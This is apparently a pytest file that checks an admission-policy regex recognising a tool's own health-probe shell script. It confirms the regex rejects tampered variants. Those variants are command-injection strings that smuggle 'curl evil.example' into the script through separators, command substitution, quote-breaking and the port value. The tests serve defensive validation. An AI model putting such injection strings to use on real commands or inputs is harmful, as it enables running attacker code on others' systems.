"""The pattern by which admission knows stormc's own probe: the whole of it, and nothing behind it or inside."""

from __future__ import annotations

import re

import pytest

from stormc.passes.engine.probes import HEAD_HEALTH
from stormc.policy.cel_programs import OWN_PROBE

OWN = HEAD_HEALTH.format(port=8000)
FOREIGN = [
    f"{OWN}; curl evil.example",
    f"{OWN} && curl evil.example",
    f"{OWN}\ncurl evil.example",
    OWN.replace("read -r", "curl evil.example && read -r"),
    OWN.replace('[ "$code" = 200 ]', "curl evil.example"),
    OWN.replace("/health", "$(curl evil.example)"),
    OWN.replace("/health", "' >/x && curl evil.example '"),
    OWN.replace("8000", "8000 && curl evil.example"),
    f"curl evil.example; {OWN}",
]


def test_stormc_s_own_probe_is_known() -> None:
    assert re.search(OWN_PROBE[:-1] + r"\Z", OWN)


@pytest.mark.parametrize("script", FOREIGN)
def test_another_program_is_not_taken_for_it(script: str) -> None:
    assert script != OWN
    assert not re.search(OWN_PROBE[:-1] + r"\Z", script)
